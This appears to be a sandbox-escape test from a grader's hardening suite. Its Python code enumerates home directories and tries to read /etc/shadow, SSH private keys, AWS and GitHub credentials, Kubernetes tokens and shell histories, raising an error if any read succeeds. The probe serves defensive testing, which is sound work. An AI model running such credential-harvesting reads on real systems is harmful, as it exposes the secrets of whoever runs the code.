# attack: home_and_keys
# kind: read
# tries: reads accounts, keys, histories and settings of the machine and of whoever runs the grader
# seen: an exception that names the file
# deserves: nothing
# extra: before 3.2a
# %%
import glob, os, pwd

homes = {'/root', '/home/instructor', os.path.expanduser('~root')}
try:
    homes |= {account.pw_dir for account in pwd.getpwall()} - {'/', '/bin', '/dev', '/usr/sbin', '/nonexistent'}
except Exception:
    pass
homes |= set(glob.glob('/home/*')) | set(glob.glob('/Users/*'))
files = ['/etc/passwd', '/etc/shadow', '/etc/group', '/etc/hosts', '/etc/resolv.conf', '/etc/machine-id', '/.dockerenv',
         '/run/secrets/kubernetes.io/serviceaccount/token', '/var/log/dpkg.log', '/etc/ssh/ssh_host_ed25519_key.pub']
files += [f'{home}/{name}' for home in homes for name in (
    '.ssh/id_rsa', '.ssh/id_ed25519', '.ssh/authorized_keys', '.bash_history', '.python_history', '.gitconfig', '.netrc',
    '.bashrc', '.profile', '.config/gh/hosts.yml', '.aws/credentials', '.jupyter/jupyter_server_config.json', '.pypirc')]
for path in files:
    # /dev/null and its like read as nothing; what is empty says nothing either
    try:
        found = open(path, 'rb').read(10)
    except OSError:
        continue
    if found:
        raise RuntimeError(f"FELL: read {path}")
